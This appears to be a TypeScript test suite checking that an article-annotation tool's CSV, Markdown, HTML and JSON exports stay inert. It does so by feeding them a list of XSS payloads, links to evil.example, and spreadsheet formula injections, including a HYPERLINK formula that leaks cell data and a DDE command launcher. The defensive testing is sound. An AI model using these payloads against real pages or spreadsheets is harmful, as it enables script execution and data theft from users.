/** Exports are inert wherever they are opened, whatever the article contains: no formula, link, markup or script. */
import assert from "node:assert/strict";
import test from "node:test";
import MarkdownIt from "markdown-it";
import { field } from "../../www/src/export/csv.js";
import { FORMATS } from "../../www/src/export/index.js";
import { marked, withClaim } from "./marked.js";

const HOSTILE = String.raw`
<script>alert(1)</script>
<img src=x onerror=alert(1)>
"><svg onload=alert(1)>
' onmouseover='alert(1)
</mark></p></article><iframe src="javascript:alert(1)">
</style><script>alert(1)</script>
--><script>alert(1)</script><!--
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
]]><script>alert(1)</script>
[click](javascript:alert(1))
![x](https://evil.example/pixel.png)
[a]: https://evil.example "t"
<https://evil.example/>
https://evil.example/path?q=1
HTTPS://EVIL.EXAMPLE
www.evil.example
mailto:who@evil.example
who@evil.example
[^1]: note
\[click\](https://evil.example)
\\[click](https://evil.example)
| a | b |
- [ ] a task
1. first
12) twelfth
+ plus
=====
---
# heading
> quotation
~~~ fence
${"```"} fence
**bold** _thin_ ~~gone~~
$x^2$ $$y$$
:smile: @everyone #123
=1+1
+1+1
-1+1
@SUM(A1)
=HYPERLINK("https://evil.example?"&A1,"click")
=cmd|' /C calc'!A0
＝1+1
＋1+1
－1+1
＠SUM(A1)
−1+1
`
  .trim()
  .split("\n");
/** Invisible characters before a sign. */
const UNSEEN = [
  "\t=1+1",
  "\r=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u00a0=1+1",
  "\u202e=1+1",
  "\u0000=1+1",
  "\u00ad+1+1",
  "  \u2060@SUM(A1)",
];
const VECTORS = [...HOSTILE, ...UNSEEN];

/** An article with the words everywhere: in the headline, a statement, a name, a role and the source. */
function article(words: string) {
  const { text, analysis } = marked(
    `${words.replace(/[{}|]/g, " ")}\n{Ana|s0} said {${words.replace(/[{}|]/g, " ")} in {Peru|PE}|c0}.`,
    [words],
  );
  const blocks = analysis.blocks.map((block, at) => (at === 0 ? { ...block, kind: "headline" as const } : block));
  const told = { ...withClaim(analysis, 0, { speaker: 0, checkability: 0.9 }), blocks };
  return {
    text,
    analysis: { ...told, speakers: told.speakers.map((speaker) => ({ ...speaker, role: words })) },
    corrections: [],
    source: { url: words, outlet: words, author: words, title: words },
  };
}
/** Every `<…>` that would be parsed as a tag. */
/** Every `<…>` that would be read as a tag. */
const tagsOf = (html: string): string[] =>
  [...html.matchAll(/<\/?([a-z][\w-]*)|<!/gi)].map(([tag]) => tag.toLowerCase());

/** With every extension that other programs enable: tables, and URLs that become links. */
const markdownIt = new MarkdownIt({ html: true, linkify: true });

test("CSV contains no formula", () => {
  for (const words of VECTORS) {
    const cells = FORMATS.csv
      .write(article(words))
      .split("\r\n")
      .slice(1)
      .flatMap((row) => row.match(/"(?:[^"]|"")*"|[^,]+/g) ?? []);
    for (const cell of cells)
      assert.doesNotMatch(
        cell.replace(/^"/, ""),
        /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠−]/u,
        `${JSON.stringify(words)} gives ${cell}`,
      );
  }
  assert.deepEqual(
    ["a=b", "“=x”", "it's", "5 - 4"].map(field),
    ["a=b", "“=x”", "it's", "5 - 4"],
    "what is no formula stays as it is",
  );
});

test("notes contain no link, picture or markup from the article", () => {
  const known = new Set(["h1", "h2", "h3", "p", "em", "ul", "li"]);
  for (const words of VECTORS) {
    const html = markdownIt.render(FORMATS.markdown.write(article(words)));
    for (const tag of tagsOf(html))
      assert.ok(known.has(tag.replace(/^<\/?/, "")), `${JSON.stringify(words)} gives ${tag}: ${html}`);
    assert.doesNotMatch(html, /<ol|<hr|<a /);
  }
  const shown = markdownIt.renderInline(
    FORMATS.markdown.write(article("Fish & chips <b> 1. *x*")).split("\n")[0]?.slice(2) ?? "",
  );
  assert.equal(shown, "Fish &amp; chips &lt;b&gt; 1. *x*", "a reader sees the words as they are");
});

test("the marked page has no tag from the article, with its policy or without", () => {
  const known = new Set(tagsOf(FORMATS.html.write(article("words"))));
  for (const words of VECTORS) {
    const html = FORMATS.html.write(article(words)).replace(/<meta http-equiv.*>/, "");
    for (const tag of tagsOf(html)) assert.ok(known.has(tag), `${JSON.stringify(words)} gives ${tag}`);
    for (const [tag] of html.matchAll(/<[a-z][^>]*>/gi))
      assert.doesNotMatch(tag.replace(/"[^"]*"/g, '""'), /\s(?:on\w+|href|src|style)\s*=|'/i, tag);
  }
});

test("JSON inside a <script> neither ends it nor begins a comment", () => {
  for (const words of VECTORS) {
    for (const format of ["json", "annotations", "claimreview", "wrong"] as const) {
      const json = FORMATS[format].write(article(words));
      assert.doesNotMatch(json, /<|\u2028|\u2029/, `${format}: ${JSON.stringify(words)}`);
      if (format !== "wrong") assert.doesNotThrow(() => JSON.parse(json) as unknown);
    }
  }
});
